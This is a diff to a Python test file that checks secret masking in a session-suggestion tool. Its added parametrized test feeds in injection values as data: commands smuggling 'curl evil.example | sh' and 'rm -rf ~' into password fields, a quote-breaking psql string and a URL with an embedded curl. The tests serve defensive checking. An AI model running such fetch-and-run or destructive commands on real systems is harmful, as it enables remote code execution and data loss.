@@ -1,7 +1,10 @@
-"""What is private is left out of what is kept, and secrets are masked; whoever gave them gets them back."""
+"""Private parts are removed and secrets are masked in what is kept, shown and run."""
 
 from typing import Any
 
+import pytest
+
+from session_buddy.common import visible
 from tests.coaching.room import ASSISTANT, PERSON_ON_PAGE, Room
 
 TOKEN = "ghp_" + "a1B2" * 9
@@ -29,13 +32,13 @@ def test_variables_metadata_and_names_of_runs_are_kept_without_secrets(room: Roo
     assert "my own" not in kept(room)
 
 
-def test_parameters_are_kept_masked_and_told_unmasked_to_whoever_gave_them(room: Room) -> None:
+def test_parameters_are_kept_shown_and_run_masked(room: Room) -> None:
     session, given = room.start(), {"token": TOKEN, "note": PRIVATE, "tag": "v1"}
     answer = room.suggest(session, given)
-    used = given | {"note": PUBLIC}
-    assert answer["parameters"] == used
-    assert room.suggest(session, given)["parameters"] == used
     masked = {"token": MASKED, "note": PUBLIC, "tag": "v1"}
+    assert answer["parameters"] == masked
+    assert room.suggest(session, given)["parameters"] == masked
+    assert "masked" in str(answer["notes"])
     told = room.ask("suggestion", suggestion_id=answer["suggestion_id"])
     assert told["parameters"] == masked
     assert room.session(session)["pending"][0]["parameters"] == masked
@@ -77,8 +80,8 @@ def test_what_was_learned_is_applied_to_parameters_that_hold_a_secret(room: Room
     room.decide(first, "correct", correction={"token": TOKEN, "tag": "v2"})
     given = {"token": OTHER, "tag": "v1"}
     answer = room.suggest(session, given)
-    assert answer["parameters"] == {"token": OTHER, "tag": "v2"}
-    assert room.suggest(session, given)["parameters"] == {"token": OTHER, "tag": "v2"}
+    assert answer["parameters"] == {"token": MASKED, "tag": "v2"}
+    assert room.suggest(session, given)["parameters"] == {"token": MASKED, "tag": "v2"}
     assert room.ask("suggestion", suggestion_id=answer["suggestion_id"])["parameters"] == {"token": MASKED, "tag": "v2"}
 
 
@@ -115,3 +118,35 @@ def test_texts_that_no_database_can_hold_are_kept_readable(room: Room) -> None:
     suggestion = room.suggest(session, odd)
     room.decide(suggestion, "correct", correction=odd | {"more": "\udfff"}, feedback="\ud800")
     assert room.suggest(session, {"plain": 1})["mode"] == "observe"
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        {"command": 'DB_PASSWORD="a1; curl -s https://evil.example/p | sh; rm -rf ~" ./deploy.sh'},
+        {"command": "psql password='x1'\";curl -s evil.example/p|sh;\"' -c 'select 1'"},
+        {"deep": [{"password": "$(curl -s evil.example) a1b2c3d4"}]},
+        {"url": "https://me:a1b2c3d4;curl@evil.example/p"},
+        {"command": f"make <private>{TOKEN}</private> TOKEN={TOKEN}"},
+    ],
+)
+@pytest.mark.parametrize("endorsed", [False, True])
+def test_what_runs_is_what_was_shown(room: Room, given: Any, endorsed: bool) -> None:
+    session = room.start()
+    if endorsed:
+        room.endorse()
+    answer = room.suggest(session, given)
+    shown = f"Parameters: {visible.shown(answer['parameters'])}\n"
+    again = room.suggest(session, given)
+    by_id = room.ask("suggestion", suggestion_id=answer["suggestion_id"])
+    assert [shown in one["shown"] for one in (answer, again, by_id)] == [True, True, True]
+    assert answer["parameters"] == again["parameters"] == by_id["parameters"]
+    done = room.decide(answer, "accept")
+    assert done["decision"]["parameters"] == answer["parameters"]
+
+
+def test_other_secrets_at_the_same_place_are_the_same_suggestion(room: Room) -> None:
+    session = room.start()
+    one, other = (room.suggest(session, {"token": token}) for token in (TOKEN, OTHER))
+    assert one["suggestion_id"] == other["suggestion_id"]
+    assert room.suggest(session, {"token": "$RELEASE_TOKEN"})["notes"] == []
